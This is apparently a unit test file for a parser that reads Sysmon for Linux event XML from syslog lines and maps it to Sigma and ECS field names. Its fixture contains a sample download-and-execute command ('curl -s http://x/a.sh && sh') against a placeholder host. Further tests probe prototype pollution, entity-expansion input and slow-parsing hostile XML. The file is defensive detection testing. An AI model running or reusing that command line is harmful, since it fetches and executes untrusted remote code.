import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseSyslog } from '../syslog/syslog-parser.js';
import { eventXmlFields } from './event-xml.js';

const XML =
  '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>' +
  '<TimeCreated SystemTime="2026-11-28T10:00:00.123Z"/><EventRecordID>99</EventRecordID><Channel>Linux-Sysmon/Operational</Channel>' +
  '<Computer>web-1</Computer><Security UserId="0"/></System><EventData><Data Name="ProcessId">4242</Data><Data Name="Image">/usr/bin/curl</Data>' +
  '<Data Name="CommandLine">curl -s http://x/a.sh &amp;&amp; sh</Data><Data Name="User">root</Data><Data Name="ParentImage">/bin/bash</Data>' +
  '<Data Name="__proto__">x</Data></EventData></Event>';

describe('Sysmon for Linux (event XML in syslog)', () => {
  it('gets the native names Sigma\'s Linux Sysmon rules use, and ECS process fields', () => {
    const f = parseSyslog(`<14>Nov 28 10:00:00 web-1 sysmon: ${XML}`, Date.now()).fields;
    assert.equal(f['EventID'], 1);
    assert.equal(f['Image'], '/usr/bin/curl');
    assert.equal(f['CommandLine'], 'curl -s http://x/a.sh && sh', 'entities decoded');
    assert.equal(f['ProcessId'], 4242);
    assert.equal(f['process.name'], 'curl');
    assert.equal(f['process.parent.executable'], '/bin/bash');
    assert.equal(f['user.name'], 'root');
    assert.deepEqual(f['event.category'], ['process']);
    assert.equal(f['event.module'], 'sysmon');
    assert.equal(Object.getPrototypeOf({}), Object.prototype);
  });

  it('expands no other entity and stays linear on hostile XML', () => {
    const e = eventXmlFields('<Event><System><EventID>1</EventID></System><EventData><Data Name="A">&xxe;&lt;</Data></EventData></Event>')!;
    assert.equal(e.fields['A'], '&xxe;<');
    const started = performance.now();
    eventXmlFields('<Event><System><EventID>1</EventID>' + '<Data Name="'.repeat(20_000));
    assert.ok(performance.now() - started < 200);
    assert.equal(eventXmlFields('<Event><System></System></Event>'), undefined);
  });
});
